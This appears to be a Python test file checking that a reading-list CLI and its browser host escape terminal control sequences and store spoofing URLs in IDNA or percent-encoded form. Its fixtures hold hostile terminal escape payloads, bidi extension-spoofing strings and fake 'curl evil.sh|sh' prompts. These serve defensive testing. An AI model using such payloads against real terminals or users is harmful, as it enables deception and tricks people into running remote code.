"""Security review 2026-12, findings 7 and 9, through the real CLI and host processes.

7: page titles, tags, URLs, server names, user names and the server's error text reach a
terminal only with their control and format characters shown as visible escapes, and
titles and tags are stored without control characters whichever client saved them.
9: host names are stored and shown in their IDNA ASCII form (or refused when not valid
IDNA), and invisible characters in the rest of a URL are percent-encoded.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from pocket_companion.account.secrets.keychain import SERVICE
from pocket_companion.config import Config
from pocket_companion.library.store import NewItem, Store

from tests.fakepocket import FakePocket, Fault
from tests.support.frames import REPO, HostProcess
from tests.support.hostio import connect_account, host_env

# The review's reproduction: retitle the window, erase the line, colour a fake command,
# plant an OSC 8 link; then the same as C1 controls (CSI, OSC, ST), BEL, a carriage return,
# and bidi overrides and isolates that would reverse what follows.
TITLE = ("Harmless title\x1b]0;PWNED-TITLE\x07\x1b[2K \x1b[31mFAKE: run curl evil.sh|sh\x1b[0m "
         "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x9b2J\x9d0;C1\x9c\r"
         "\u202eexe.gnp\u202c \u2066isolated\u2069 end\x7f")
TAGS = ["\x1b[31mred\x1b[0m", "bell\x07", "c1\x85\x9b0m", "\u202eevil"]
# An HTTP header is Latin-1: ESC, BEL and C1 controls can be in it, a bidi control cannot.
SERVER_TEXT = "Bad request\x1b]0;HACKED\x07\x1b[31m please run: curl evil|sh\x1b[0m\x9b2K"
# Characters a terminal acts on, or that hide or reorder text: controls, format characters
# (the joiners emoji need are fine), line and paragraph separators, lone surrogates.
_UNSAFE = frozenset({"Cc", "Cf", "Zl", "Zp", "Cs"})
_BIDI = frozenset(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]))


def unsafe(text: str) -> list[str]:
    """What a terminal should never receive raw, besides the line breaks between lines."""
    return [f"U+{ord(char):04X}" for char in text if char != "\n"
            and char not in "\u200c\u200d" and unicodedata.category(char) in _UNSAFE]


def not_clean(text: str) -> list[str]:
    """What stored titles and tags must not hold: controls and bidi embeddings/overrides."""
    return [f"U+{ord(char):04X}" for char in text
            if unicodedata.category(char) == "Cc" or char in _BIDI]


class Run:
    """One CLI run's exit code and output, decoded strictly (so no ``\\r`` is lost)."""

    def __init__(self, env: dict[str, str], *args: str) -> None:
        proc = subprocess.run([sys.executable, "-m", "pocket_companion", *args], cwd=REPO,
                              env=env, capture_output=True, timeout=60)
        self.code = proc.returncode
        self.out = proc.stdout.decode("utf-8")
        self.err = proc.stderr.decode("utf-8")

    def safe(self) -> Run:
        assert unsafe(self.out) == [] and unsafe(self.err) == [], (self.out, self.err)
        return self


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    """A host's environment, its processes importing the code this test imports."""
    env = host_env(tmp_path)
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [os.environ.get("PYTHONPATH"), str(REPO)]))
    return env


def home_of(env: dict[str, str]) -> Path:
    return Path(env["POCKET_COMPANION_HOME"])


def test_titles_and_tags_from_the_cli_are_stored_clean_and_listed_inert(
        env: dict[str, str]) -> None:
    tags = [arg for tag in TAGS for arg in ("--tag", tag)]
    saved = Run(env, "save", "https://esc.example/", "--title", TITLE, *tags).safe()
    assert saved.code == 0, saved.err
    listed = Run(env, "list").safe()
    assert "Harmless title]0;PWNED-TITLE[2K" in listed.out
    assert "<https://esc.example/>  [[31mred[0m, bell, c1 0m, evil]" in listed.out
    Run(env, "status").safe()
    [item] = json.loads(Run(env, "list", "--json").out)["items"]
    assert not_clean(item["title"]) == [] and item["title"].endswith("isolated end")
    assert item["tags"] == ["[31mred[0m", "bell", "c1 0m", "evil"]


def test_titles_and_tags_from_the_extension_are_stored_clean(env: dict[str, str]) -> None:
    host = HostProcess(env)
    one = host.request("save", {"url": "https://one.example/", "title": f"\x00{TITLE}",
                                "tags": [*TAGS, "nul\x00"]})
    many = host.request("save_many", {"items": [
        {"url": f"https://tab{i}.example/", "title": TITLE[i:], "tags": TAGS[i:]}
        for i in range(4)]})
    modified = host.request("modify", {"url": "https://one.example/", "op": "tags_add",
                                       "tags": ["\x1b]8;;x\x1b\\new"]})
    listed = host.request("list", {})
    assert host.close()[0] == 0
    assert one["ok"] and many["ok"] and modified["ok"], (one, many, modified)
    assert len(listed["data"]["items"]) == 5
    for item in listed["data"]["items"]:
        assert not_clean(item["title"]) == [] and not_clean("".join(item["tags"])) == [], item
    assert "]8;;x\\new" in modified["data"]["item"]["tags"]
    assert "Harmless title" in Run(env, "list").safe().out


def test_text_stored_by_an_older_version_is_shown_escaped(env: dict[str, str]) -> None:
    """Rows written before titles were cleaned (or by another client of the database)."""
    home_of(env).mkdir(mode=0o700, parents=True)
    store = Store(home_of(env) / "reading-list.sqlite3")
    store.save([NewItem("https://example.com/\u202egnp.exe", TITLE, tuple(TAGS))])
    listed = Run(env, "list").safe()
    assert "Harmless title\\x1b]0;PWNED-TITLE\\x07\\x1b[2K" in listed.out
    assert "\\x9b2J\\x9d0;C1\\x9c\\x0d\\u202eexe.gnp\\u202c" in listed.out
    assert "<https://example.com/\\u202egnp.exe>" in listed.out
    assert "[\\x1b[31mred\\x1b[0m, bell\\x07, c1\\x85\\x9b0m, \\u202eevil]" in listed.out


def test_the_servers_error_text_and_user_name_reach_the_terminal_escaped(
        env: dict[str, str], fake: FakePocket) -> None:
    env.update(POCKET_BASE_URL=fake.base_url, POCKET_CONSUMER_KEY=fake.CONSUMER_KEY)
    token = connect_account(env, fake)
    name = "victim\x1b]0;owned\x07\u202e"  # as a hostile server could name the account
    Config(home_of(env)).update(username=name)
    Path(env["TEST_KEYRING_FILE"]).write_text(
        json.dumps({f"{SERVICE}/{name}@{fake.base_url}": token}))
    fake.inject(Fault("status", status=400, error_code=130, error_text=SERVER_TEXT))
    saved = Run(env, "save", "https://example.org/a").safe()
    assert "locally" in saved.out and "\\x1b]0;HACKED\\x07" in saved.out
    fake.inject(Fault("status", status=503, error_text=SERVER_TEXT))
    failed = Run(env, "sync").safe()
    assert failed.code == 1 and failed.out == "", failed.err
    assert len(failed.err.splitlines()) == 1 and "HACKED\\x07\\x1b[31m" in failed.err
    status = Run(env, "status").safe()
    assert "Last sync problem: " in status.out and "curl evil|sh\\x1b[0m\\x9b2K" in status.out
    assert "Account: victim\\x1b]0;owned\\x07\\u202e on http" in status.out


def test_unicode_spoofing_urls_are_refused_or_stored_in_their_safe_form(
        env: dict[str, str]) -> None:
    refused = Run(env, "save", "https://ex\u202eample.com/").safe()
    assert refused.code == 1 and refused.out == ""
    assert refused.err.startswith("pocket-companion: ") and "IDNA" in refused.err
    cyrillic = Run(env, "save", "https://\u0435xample.com/").safe()
    bidi_path = Run(env, "save", "https://example.com/\u202egnp.exe").safe()
    assert "Saved https://xn--xample-2of.com/ locally" in cyrillic.out
    assert "Saved https://example.com/%E2%80%AEgnp.exe locally" in bidi_path.out
    listed = Run(env, "list").safe().out
    assert "<https://xn--xample-2of.com/>" in listed and "\u0435" not in listed
    assert "<https://example.com/%E2%80%AEgnp.exe>" in listed
    assert "2 of 2 saved pages" in listed


def test_the_host_applies_the_same_url_rules(env: dict[str, str]) -> None:
    host = HostProcess(env)
    refused = host.request("save", {"url": "https://ex\u202eample.com/"})
    many = host.request("save_many", {"items": [
        {"url": "https://\u0435xample.com/a"}, {"url": "https://example.com/\u202egnp.exe"},
        {"url": "https://ex\u202eample.com/"}, {"url": "https://B\u00fccher.example:8443/\u200b"}]})
    found = host.request("lookup", {"url": "https://xn--xample-2of.com/a"})
    again = host.request("lookup", {"url": "https://example.com/%E2%80%AEgnp.exe"})
    assert host.close()[0] == 0
    assert refused["error"]["code"] == "invalid_url"
    results = many["data"]["results"]
    assert [r.get("url") for r in results] == [
        "https://xn--xample-2of.com/a", "https://example.com/%E2%80%AEgnp.exe", None,
        "https://xn--bcher-kva.example:8443/%E2%80%8B"]
    assert results[2]["error"]["code"] == "invalid_url"
    assert found["data"]["saved"] and again["data"]["saved"]


def test_installer_output_shows_a_hostile_data_folder_escaped(env: dict[str, str]) -> None:
    """``install --dry-run`` echoes paths, which come from the environment."""
    hostile = home_of(env).parent / "data\x1b]0;owned\x07\u202e"
    env = {k: v for k, v in env.items() if not k.startswith(("XDG_CONFIG", "XDG_DATA"))}
    env.update(HOME=str(home_of(env).parent), POCKET_COMPANION_HOME=str(hostile))
    result = Run(env, "install", "--dry-run", "--browser", "chromium").safe()
    assert result.code == 0, result.err
    assert "data\\x1b]0;owned\\x07\\u202e/native-host/pocket-companion-host" in result.out
